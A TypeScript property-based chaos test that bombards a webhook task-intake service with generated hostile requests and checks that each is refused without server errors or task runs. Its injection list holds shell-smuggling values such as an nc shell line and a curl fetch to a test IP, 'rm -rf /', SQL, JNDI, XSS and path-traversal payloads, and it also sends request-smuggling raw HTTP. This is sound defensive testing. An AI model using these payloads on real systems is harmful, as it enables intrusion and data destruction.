import { randomBytes } from 'node:crypto';
import net from 'node:net';
import path from 'node:path';
import { runInNewContext } from 'node:vm';
import v8 from 'node:v8';
import fc from 'fast-check';
import type { FastifyInstance } from 'fastify';
import { request } from 'undici';
import { afterAll, describe, expect, it } from 'vitest';
import { sign } from '../../src/signature.js';
import { contractViolations } from '../contract.js';
import { ADMIN_TOKEN, TEST_KEY, TEST_SECRET, fixture, readRecords, signedHeaders, tempDir, testApp, waitFor } from '../helpers.js';
import { BAD_REQUESTS, SEED, metric, printSummaryAfterAll, seconds, summary } from './chaos.js';

printSummaryAfterAll();

v8.setFlagsFromString('--expose-gc');
// Heap growth is only meaningful after a full collection; the flag above makes gc() reachable from a fresh context.
const gc = runInNewContext('gc') as () => void;
const heapAfterGc = () => {
  gc();
  gc();
  return process.memoryUsage().heapUsed;
};

const MiB = 1024 * 1024;
const BODY_LIMIT = 64 * 1024;
const MAX_ID = 4_294_967_295;
/** Only these nids may ever run: the good requests sent before and after the hostile ones. */
const BASELINE_NIDS = [900_001, 900_002, 900_003, 900_004, 900_005];
const AFTER_NID = 999_999;

/** What a client could send; signing happens at send time, so timestamps are relative to that moment. */
interface Hostile {
  kind: string;
  body: string | Buffer;
  headers: (now: number) => Record<string, string>;
  /** Replays of an accepted webhook are the one case answered 200 (duplicate); everything else must be refused. */
  replay?: boolean;
}

const INJECTIONS = [
  "'; DROP TABLE hosting_task; --",
  '$(touch /tmp/pwned)',
  '`id`',
  '; rm -rf / #',
  '| nc 203.0.113.1 4444',
  '&& curl http://203.0.113.1/x',
  '../../../../etc/passwd',
  '{nid}',
  '--uri=http://evil.example',
  '-rf',
  '%00',
  '<script>alert(1)</script>',
  '${jndi:ldap://203.0.113.1/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  '%s%s%s%n',
  'A'.repeat(300),
];
const CONTROL_INJECTIONS = ['\u0000', 'verify\nrm -rf /', 'x\r\nX-Injected: 1', '\u202e', 'é', '🦀'];

const now = () => Math.floor(Date.now() / 1000);
const signWith = (key: Buffer, id: string, ts: string, body: string | Buffer) => sign(key, id, ts as unknown as number, body);
let uniq = 0;
const msgId = () => `msg_chaos_${process.pid}_${++uniq}`;
const json = (h: Record<string, string> = {}): Record<string, string> => ({ 'content-type': 'application/json', ...h });
const properlySigned = (body: string | Buffer, extra: Record<string, string> = {}) => (t: number) => {
  const id = msgId();
  return json({ 'webhook-id': id, 'webhook-timestamp': String(t), 'webhook-signature': signWith(TEST_KEY, id, String(t), body), ...extra });
};

/** Independent of the service's schema: what DESIGN.md calls a valid intake body. */
function isValidTask(body: string | Buffer): boolean {
  let value: unknown;
  try {
    value = JSON.parse(body.toString());
  } catch {
    return false;
  }
  if (typeof value !== 'object' || value === null || Array.isArray(value)) return false;
  const v = value as Record<string, unknown>;
  const id = (x: unknown) => Number.isInteger(x) && (x as number) >= 1 && (x as number) <= MAX_ID;
  return (
    id(v.nid) &&
    (v.rid === undefined || id(v.rid)) &&
    (v.vid === undefined || id(v.vid)) &&
    (v.type === undefined || (typeof v.type === 'string' && /^[A-Za-z0-9][A-Za-z0-9_.-]{0,63}$/.test(v.type))) &&
    (v.changed === undefined || (Number.isInteger(v.changed) && (v.changed as number) >= 0 && (v.changed as number) <= 253_402_300_799))
  );
}

// Valid nids for bodies that must be refused for another reason; none of them may ever run.
const victimNid = fc.integer({ min: 1, max: 899_999 });
const goodBody = fc
  .record({ nid: victimNid, rid: fc.option(fc.integer({ min: 1, max: 1000 }), { nil: undefined }), type: fc.constantFrom('verify', 'backup', 'install', undefined) })
  .map((t) => JSON.stringify(t));
const printable = fc.string({ maxLength: 200 });
const injection = fc.oneof(fc.constantFrom(...INJECTIONS, ...CONTROL_INJECTIONS), printable);
const badNumber = fc.oneof(
  fc.integer({ max: 0 }),
  fc.integer({ min: MAX_ID + 1, max: Number.MAX_SAFE_INTEGER }),
  fc.double({ noNaN: true, noDefaultInfinity: true }).filter((d) => !Number.isInteger(d)),
  fc.constantFrom(1e300, -1e300, 2 ** 53 + 2, -0.5, 0.1),
);
const notAnId = fc.oneof(
  badNumber,
  injection,
  fc.constantFrom(null, true, false, [], {}, [1], { $gt: 0 }, '1', '0x10', '1e3', ' 1', 'NaN', 'Infinity'),
);

const badBodies: fc.Arbitrary<Hostile> = fc.oneof(
  goodBody.chain((b) => fc.integer({ min: 0, max: b.length - 1 }).map((n) => b.slice(0, n))).map((b) => ({ kind: 'truncated body', body: b, headers: properlySigned(b) })),
  fc.string({ unit: 'binary', maxLength: 300 }).filter((b) => !isValidTask(b)).map((b) => ({ kind: 'random text body', body: b, headers: properlySigned(b) })),
  fc.uint8Array({ maxLength: 300 }).map((a) => Buffer.from(a)).filter((b) => !isValidTask(b)).map((b) => ({ kind: 'random bytes body', body: b, headers: properlySigned(b) })),
  fc.record({ nid: notAnId, rid: fc.option(fc.integer({ min: 1, max: 99 }), { nil: undefined }) }).map((t) => JSON.stringify(t)).filter((b) => !isValidTask(b)).map((b) => ({ kind: 'bad nid', body: b, headers: properlySigned(b) })),
  fc
    .tuple(victimNid, fc.constantFrom('rid', 'vid', 'type', 'changed'), fc.oneof(notAnId, injection))
    .map(([nid, field, value]) => JSON.stringify({ nid, [field]: value }))
    .filter((b) => !isValidTask(b))
    .map((b) => ({ kind: 'bad field', body: b, headers: properlySigned(b) })),
  fc.oneof(fc.jsonValue(), fc.constantFrom('[]', 'null', '""', '0', 'true')).map((v) => JSON.stringify(v) ?? 'null').filter((b) => !isValidTask(b)).map((b) => ({ kind: 'not an object', body: b, headers: properlySigned(b) })),
  fc.integer({ min: 1000, max: 30_000 }).map((depth) => '['.repeat(depth) + ']'.repeat(depth)).map((b) => ({ kind: 'deep nesting', body: b, headers: properlySigned(b) })),
  fc.constantFrom(
    '{"__proto__":{"nid":5,"polluted":true}}',
    '{"constructor":{"prototype":{"polluted":true}},"nid":"x"}',
    '{"nid":1,"nid":"dup"}',
    '{"nid":1e400}',
    '{"nid":-0}',
    '{"nid":NaN}',
    "{'nid':1}",
    '{"nid":1,}',
    '\ufeff{"nid":"bom"}',
  ).map((b) => ({ kind: 'tricky JSON', body: b, headers: properlySigned(b) })),
);

const badAuth: fc.Arbitrary<Hostile> = fc.oneof(
  goodBody.map((b) => ({ kind: 'no credentials', body: b, headers: () => json() })),
  fc.tuple(goodBody, fc.oneof(printable, fc.constantFrom(...INJECTIONS), fc.constant(ADMIN_TOKEN.slice(0, -1)), fc.constant(`${ADMIN_TOKEN}x`), fc.constant(''))).map(([b, token]) => ({
    kind: 'wrong bearer token',
    body: b,
    headers: () => json({ authorization: `Bearer ${token}` }),
  })),
  fc.tuple(goodBody, fc.uint8Array({ minLength: 24, maxLength: 64 })).map(([b, key]) => ({
    kind: 'signed with another key',
    body: b,
    headers: (t: number) => {
      const id = msgId();
      return json({ 'webhook-id': id, 'webhook-timestamp': String(t), 'webhook-signature': signWith(Buffer.from(key), id, String(t), b) });
    },
  })),
  fc
    .tuple(
      goodBody,
      fc.oneof(
        fc.string({ maxLength: 80 }).map((s) => `v1,${s}`),
        fc.constantFrom('v1,', 'v1', ',', '', ' ', 'v1,====', 'v1,A', 'v1,AAAA', 'v1,!!!!', 'v1,' + 'A'.repeat(43), 'v1,' + Buffer.alloc(31).toString('base64'), 'v1,' + Buffer.alloc(33).toString('base64')),
      ),
    )
    .map(([b, signature]) => ({ kind: 'malformed signature', body: b, headers: (t: number) => json({ 'webhook-id': msgId(), 'webhook-timestamp': String(t), 'webhook-signature': signature }) })),
  fc.tuple(goodBody, fc.constantFrom('v2', 'V1', 'v1a', 'v0', 'v1 ', 'v1;', 'whsec', 'v1,v1', 'sha256')).map(([b, version]) => ({
    kind: 'unknown signature version',
    body: b,
    headers: (t: number) => {
      const id = msgId();
      const good = signWith(TEST_KEY, id, String(t), b).slice(3);
      return json({ 'webhook-id': id, 'webhook-timestamp': String(t), 'webhook-signature': `${version},${good}` });
    },
  })),
  fc.tuple(goodBody, fc.oneof(fc.integer({ min: 301, max: 2_000_000_000 }).map((d) => -d), fc.integer({ min: 301, max: 9_000_000_000 }))).map(([b, offset]) => ({
    kind: offset < 0 ? 'stale timestamp' : 'future timestamp',
    body: b,
    headers: (t: number) => {
      const id = msgId();
      const ts = String(Math.max(0, t + offset));
      return json({ 'webhook-id': id, 'webhook-timestamp': ts, 'webhook-signature': signWith(TEST_KEY, id, ts, b) });
    },
  })),
  fc.tuple(goodBody, fc.constantFrom('', 'abc', '-5', '1e9', ' 1', '0x10', '12345678901234567890', 'NaN', '1.5', '+1')).map(([b, ts]) => ({
    kind: 'malformed timestamp',
    body: b,
    headers: () => {
      const id = msgId();
      return json({ 'webhook-id': id, 'webhook-timestamp': ts, 'webhook-signature': signWith(TEST_KEY, id, ts, b) });
    },
  })),
  fc.tuple(goodBody, fc.constantFrom('webhook-id', 'webhook-timestamp')).map(([b, drop]) => ({
    kind: `missing ${drop}`,
    body: b,
    headers: (t: number) => {
      const h = properlySigned(b)(t);
      delete h[drop];
      return h;
    },
  })),
  fc.tuple(goodBody, goodBody).filter(([a, b]) => a !== b).map(([a, b]) => ({ kind: 'signature of another body', body: b, headers: properlySigned(a) })),
  fc.tuple(goodBody, fc.integer({ min: 257, max: 20_000 })).map(([b, n]) => ({
    kind: 'oversized webhook-id',
    body: b,
    headers: (t: number) => {
      const id = 'i'.repeat(n);
      return json({ 'webhook-id': id, 'webhook-timestamp': String(t), 'webhook-signature': signWith(TEST_KEY, id, String(t), b) });
    },
  })),
  fc.tuple(goodBody, fc.integer({ min: 4097, max: 200_000 })).map(([b, n]) => ({
    kind: 'oversized signature header',
    body: b,
    headers: (t: number) => {
      const h = properlySigned(b)(t);
      // The real signature is in the list, past the length the service accepts.
      return { ...h, 'webhook-signature': `${'v1,AAAA '.repeat(Math.ceil(n / 8))}${h['webhook-signature']}` };
    },
  })),
  fc.tuple(goodBody, fc.integer({ min: 8_000, max: 500_000 })).map(([b, n]) => ({ kind: 'oversized authorization header', body: b, headers: () => json({ authorization: `Bearer ${'t'.repeat(n)}` }) })),
);

const wrongType: fc.Arbitrary<Hostile> = fc
  .tuple(
    goodBody,
    fc
      .oneof(
        fc.constantFrom('text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml', 'application/jsonx', 'application/json-patch+json', 'text/json', 'application/javascript', 'application/octet-stream', '*/*', 'json'),
        fc.string({ minLength: 1, maxLength: 60 }),
      )
      .filter((type) => !/^\s*application\/json\s*(;.*)?$/i.test(type)),
  )
  .map(([b, type]) => ({ kind: 'wrong content type', body: b, headers: (t: number) => ({ ...properlySigned(b)(t), 'content-type': type }) }));

const oversized: fc.Arbitrary<Hostile> = fc
  .tuple(fc.integer({ min: BODY_LIMIT + 1, max: 4 * BODY_LIMIT }), fc.boolean(), fc.constantFrom('application/json', 'text/plain'))
  .map(([size, signed, type]) => {
    const body = JSON.stringify({ nid: 123, pad: 'x'.repeat(size) });
    return { kind: 'oversized body', body, headers: (t: number) => ({ ...(signed ? properlySigned(body)(t) : {}), 'content-type': type }) };
  });

const hostile = (replays: Hostile[]): fc.Arbitrary<Hostile> =>
  fc.oneof(
    { weight: 4, arbitrary: badBodies },
    { weight: 5, arbitrary: badAuth },
    { weight: 1, arbitrary: wrongType },
    { weight: 1, arbitrary: oversized },
    { weight: 1, arbitrary: fc.constantFrom(...replays) },
  );

async function intake() {
  const recordFile = path.join(await tempDir('taskd-chaos-hostile-'), 'records');
  const { app } = await testApp(
    {
      TASKD_SECRET: TEST_SECRET,
      // With a token configured, unsigned intake from loopback needs it too, so every unsigned request here must be refused.
      TASKD_ADMIN_TOKEN: ADMIN_TOKEN,
      TASKD_COMMAND: JSON.stringify([fixture('record-run.sh'), '{nid}']),
      TASKD_RATE_LIMIT: '0',
      TASKD_CONCURRENCY: '4',
    },
    { env: { ...process.env, RECORD_FILE: recordFile, SLEEP_SECONDS: '0' } },
  );
  return { app, records: () => readRecords(recordFile) };
}

/** The accepted webhooks whose exact bytes and headers the hostile run replays. */
async function acceptBaseline(app: FastifyInstance, records: () => ReturnType<typeof readRecords>): Promise<Hostile[]> {
  const replays: Hostile[] = [];
  for (const nid of BASELINE_NIDS) {
    const body = JSON.stringify({ nid, rid: nid });
    const headers = signedHeaders(body);
    const response = await app.inject({ method: 'POST', url: '/v1/tasks', payload: body, headers });
    expect(response.statusCode).toBe(202);
    replays.push({ kind: 'replay', body, headers: () => headers, replay: true });
  }
  await waitFor(async () => (await records()).filter((r) => r.event === 'end').length === BASELINE_NIDS.length, { what: 'the baseline tasks to run' });
  return replays;
}

const stats = { sent: 0, http: 0, rawSocket: 0, statuses: new Map<number, number>(), kinds: new Map<string, number>() };
afterAll(() => {
  const byStatus = [...stats.statuses].sort(([a], [b]) => a - b).map(([s, n]) => `${s}:${n}`).join(' ');
  summary(`hostile input: seed ${SEED}, kinds ${stats.kinds.size}, answers ${byStatus}`);
});

function tally(kind: string, status: number) {
  stats.kinds.set(kind, (stats.kinds.get(kind) ?? 0) + 1);
  stats.statuses.set(status, (stats.statuses.get(status) ?? 0) + 1);
}

function expectRefused(h: Hostile, status: number, body: string) {
  const what = `${h.kind}: ${status} ${body.slice(0, 200)}`;
  expect(status, what).toBeLessThan(500);
  if (h.replay) {
    expect(status, what).toBe(200);
    expect(JSON.parse(body), what).toMatchObject({ duplicate: true });
  } else {
    expect(status, what).toBeGreaterThanOrEqual(400);
    expect(JSON.parse(body).error, what).toMatch(/^TASKD_ERR_/);
  }
}

describe('hostile input on POST /v1/tasks', () => {
  it(`refuses ${BAD_REQUESTS} generated bad requests without a 5xx, without running anything, with bounded memory, and still serves good requests`, async () => {
    const began = Date.now();
    const { app, records } = await intake();
    const replays = await acceptBaseline(app, records);
    const cases = fc.sample(hostile(replays), { numRuns: BAD_REQUESTS, seed: SEED });

    const heapBefore = heapAfterGc();
    let peakGrowth = 0;
    for (const [i, h] of cases.entries()) {
      const response = await app.inject({ method: 'POST', url: '/v1/tasks', payload: h.body, headers: h.headers(now()) });
      tally(h.kind, response.statusCode);
      expectRefused(h, response.statusCode, response.body);
      if (i % 1000 === 999) peakGrowth = Math.max(peakGrowth, heapAfterGc() - heapBefore);
    }
    stats.sent += cases.length;
    const growth = Math.max(peakGrowth, heapAfterGc() - heapBefore);

    const metrics = (await app.inject({ url: '/metrics' })).body;
    // Something ran only if a start reached the scheduler; the record file says what really ran.
    const started = metric(metrics, 'taskd_tasks_started_total');
    const ranNids = [...new Set((await records()).map((r) => r.nid))].sort((a, b) => a - b);
    expect(({}) as Record<string, unknown>).not.toHaveProperty('polluted');

    const body = JSON.stringify({ nid: AFTER_NID, rid: 1 });
    const good = await app.inject({ method: 'POST', url: '/v1/tasks', payload: body, headers: signedHeaders(body) });
    expect(good.statusCode).toBe(202);
    await waitFor(async () => (await records()).some((r) => r.nid === AFTER_NID && r.event === 'end'), { what: 'the good request after the hostile ones to run' });
    await app.close();

    summary(
      `hostile input (in-process): bad requests ${cases.length}, 5xx 0, started by them ${started - BASELINE_NIDS.length}, ` +
        `heap growth ${(growth / MiB).toFixed(1)} MiB, good request after 202, ${seconds(began)} s`,
    );
    expect(ranNids).toEqual(BASELINE_NIDS);
    expect(started).toBe(BASELINE_NIDS.length);
    expect(growth).toBeLessThan(32 * MiB);
    expect(contractViolations.splice(0), 'answers the OpenAPI document does not allow').toEqual([]);
  });

  it('refuses a sample of them over real HTTP, and malformed HTTP on a raw socket, without a 5xx or a run, and still serves good requests', async () => {
    const began = Date.now();
    const { app, records } = await intake();
    const replays = await acceptBaseline(app, records);
    const url = await app.listen({ host: '127.0.0.1', port: 0 });
    const sample = fc.sample(hostile(replays), { numRuns: Math.max(200, Math.ceil(BAD_REQUESTS / 20)), seed: SEED + 1 });
    // Node refuses a header section over 16 KiB before the service sees it; that is a refusal too.
    let headerTooLarge = 0;
    for (const h of sample) {
      const response = await request(`${url}/v1/tasks`, { method: 'POST', body: h.body, headers: h.headers(now()) }).catch((error: Error) => error);
      if (response instanceof Error) {
        // The server may close the connection on a request it will not read (headers too large).
        expect(response.message, h.kind).toMatch(/other side closed|socket|ECONNRESET/i);
        headerTooLarge += 1;
        tally(h.kind, 0);
        continue;
      }
      const text = await response.body.text();
      tally(h.kind, response.statusCode);
      if (response.statusCode === 431) {
        headerTooLarge += 1;
        continue;
      }
      expectRefused(h, response.statusCode, text);
    }
    stats.http += sample.length;

    const port = new URL(url).port;
    const raw = [
      `POST /v1/tasks HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{"nid":1`,
      `POST /v1/tasks HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{"nid":1}\r\n0\r\n\r\n`,
      `POST /v1/tasks HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 9\r\n\r\n{"nid":1}`,
      `POST /v1/tasks HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: -1\r\n\r\n`,
      `POST /v1/tasks HTTP/1.1\r\nHost: x\r\nX-Big: ${'a'.repeat(70_000)}\r\n\r\n`,
      `POST /v1/tasks\0 HTTP/1.1\r\nHost: x\r\n\r\n`,
      `PÖST /v1/tasks HTTP/1.1\r\n\r\n`,
      `POST /v1/tasks HTTP/9.9\r\nHost: x\r\n\r\n`,
      `POST /v1/tasks HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 9\r\nTransfer-Encoding: chunked\r\n\r\n9\r\n{"nid":1}\r\n0\r\n\r\n`,
      randomBytes(4096).toString('latin1'),
    ];
    for (const text of raw) {
      const answer = await rawExchange(Number(port), text);
      const status = Number(/^HTTP\/1\.[01] (\d{3})/.exec(answer)?.[1] ?? 0);
      tally('malformed HTTP', status);
      // No answer at all (the connection closed) is a refusal too.
      if (status !== 0) expect(status, `${JSON.stringify(text.slice(0, 80))} -> ${answer.slice(0, 100)}`).toBeGreaterThanOrEqual(400);
      expect(status, text.slice(0, 80)).toBeLessThan(500);
    }
    stats.rawSocket += raw.length;

    const body = JSON.stringify({ nid: AFTER_NID, rid: 1 });
    const good = await request(`${url}/v1/tasks`, { method: 'POST', body, headers: signedHeaders(body) });
    expect(good.statusCode).toBe(202);
    await good.body.dump();
    await waitFor(async () => (await records()).some((r) => r.nid === AFTER_NID && r.event === 'end'), { what: 'the good request after the hostile ones to run' });
    const ranNids = [...new Set((await records()).map((r) => r.nid))].sort((a, b) => a - b);
    await app.close();
    summary(`hostile input (HTTP): bad requests ${sample.length} (${headerTooLarge} stopped by the header limit), raw malformed ${raw.length}, 5xx 0, runs by them ${ranNids.length - BASELINE_NIDS.length - 1}, ${seconds(began)} s`);
    expect(ranNids).toEqual([...BASELINE_NIDS, AFTER_NID]);
    expect(contractViolations.splice(0), 'answers the OpenAPI document does not allow').toEqual([]);
  });
});

/** Writes raw bytes and returns whatever comes back before the server closes or goes quiet. */
function rawExchange(port: number, text: string): Promise<string> {
  return new Promise((resolve) => {
    const socket = net.connect(port, '127.0.0.1');
    let answer = '';
    const done = () => {
      socket.destroy();
      resolve(answer);
    };
    socket.on('data', (chunk) => {
      answer += chunk.toString('latin1');
      // One answer is enough; a kept-alive connection would otherwise wait for the next request.
      if (/\r\n\r\n/.test(answer)) setTimeout(done, 20);
    });
    socket.on('error', done);
    socket.on('close', done);
    // A request the parser still waits on (a short body) is answered by nobody: give up after a while.
    socket.setTimeout(2000, done);
    socket.write(text, 'latin1');
  });
}
